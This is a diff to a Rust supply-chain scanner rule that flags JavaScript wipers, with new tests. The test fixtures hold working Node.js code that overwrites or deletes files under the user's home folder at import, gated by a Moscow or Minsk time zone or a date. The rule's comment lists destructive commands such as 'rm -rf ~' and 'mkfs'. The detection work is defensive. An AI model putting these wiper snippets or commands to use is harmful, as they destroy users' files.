@@ -15,7 +15,8 @@ diligence_finding::declare_rule! {
     /// In JavaScript that runs when a consumer loads the package (module scope, or a function load-time code calls,
     /// across the package's own modules) or at install: a recursive delete (`fs.rm(…, { recursive: true })`,
     /// `rimraf`, `del`) or a directory walk that writes or deletes what it lists (`readdir` and `writeFile`/`unlink`
-    /// in one function), in a file that names a place outside the package: a user folder (`Desktop`, `Documents`),
+    /// in one function, or a walker that lists folders calling a visitor callback that writes:
+    /// `walk(root, (f) => fs.writeFileSync(f, X))`), in a file that names a place outside the package: a user folder (`Desktop`, `Documents`),
     /// two or more parent levels (`../..`), or the home folder (`os.homedir()`, `$HOME`). In command lines: `rm -rf`
     /// of `~`, `/`, `$HOME` or `..`, `rd /s` of `%USERPROFILE%`, `Remove-Item -Recurse $HOME`, `mkfs`, `dd of=/dev/…`.
     /// Critical with a user folder or parent levels, or with a locale, time-zone, country or date gate; high for a
@@ -268,5 +269,74 @@ mod tests {
             Some(Severity::Medium)
         );
         assert_eq!(s.verdict, Verdict::Clean);
+    }
+
+    /// node-ipc's shape with the walk and the write in different functions: a generic
+    /// recursive walker lists folders and calls a visitor that overwrites each file with a
+    /// constant, from the home folder, behind a time-zone/locale and date gate, at import.
+    #[test]
+    fn positive_walker_visitor_overwrites_at_import() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "sync.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction region() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }\nfunction walk(dir, fn) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p, fn); else fn(p);\n  }\n}\nfunction sync() {\n  if (region() !== 'Europe/Moscow' || Date.now() < Date.UTC(2026, 11, 1)) return;\n  for (const root of [os.homedir(), process.cwd()]) {\n    walk(root, (f) => { try { fs.writeFileSync(f, 'x'); } catch (_) {} });\n  }\n}\nmodule.exports = { sync };\n",
+            ),
+            (
+                "index.js",
+                "const { sync } = require('./sync');\nsync();\nmodule.exports = {};\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/wiper"), vec![("sync.js".to_string(), 14)]);
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// A clean-up tool walks the folder its caller names and deletes build output through a
+    /// visitor, only when called (a `bin`): nothing runs at load.
+    #[test]
+    fn negative_walker_visitor_when_called() {
+        let s = scan(&[
+            (
+                "package.json",
+                r#"{"name":"cln","version":"1.0.0","main":"lib.js","bin":{"cln":"cli.js"}}"#,
+            ),
+            (
+                "lib.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction walk(dir, fn) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p, fn); else fn(p);\n  }\n}\nexports.clean = (root) => {\n  if (root === os.homedir()) throw new Error('refusing');\n  walk(root, (f) => { if (f.endsWith('.tmp')) fs.unlinkSync(f); });\n};\n",
+            ),
+            ("cli.js", "require('./lib').clean(process.argv[2]);\n"),
+        ]);
+        assert!(hits(&s, "code/wiper").is_empty());
+        assert_eq!(s.verdict, Verdict::Clean);
+    }
+
+    /// The time zone read through a destructured `resolvedOptions()` gates a recursive delete
+    /// of the home folder's documents at load.
+    #[test]
+    fn positive_destructured_time_zone_gate() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { timeZone } = Intl.DateTimeFormat().resolvedOptions();\nif (timeZone === 'Europe/Minsk') fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true });\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 5)]);
+        let f = s.findings.iter().find(|f| f.rule == "code/wiper").unwrap();
+        assert!(f.message.contains("locale"), "{}", f.message);
+    }
+
+    /// An asynchronous walk: the overwrite sits in callbacks nested under `fs.readdir`.
+    #[test]
+    fn positive_async_walk_overwrites_from_callbacks() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction wipe(dir) {\n  fs.readdir(dir, (e, names) => {\n    (names || []).forEach((n) => {\n      const p = path.join(dir, n);\n      fs.stat(p, (err, st) => { if (st && st.isDirectory()) wipe(p); else fs.writeFile(p, 'x', () => {}); });\n    });\n  });\n}\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') wipe(os.homedir());\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 8)]);
+        assert_eq!(s.verdict, Verdict::Malicious);
     }
 }
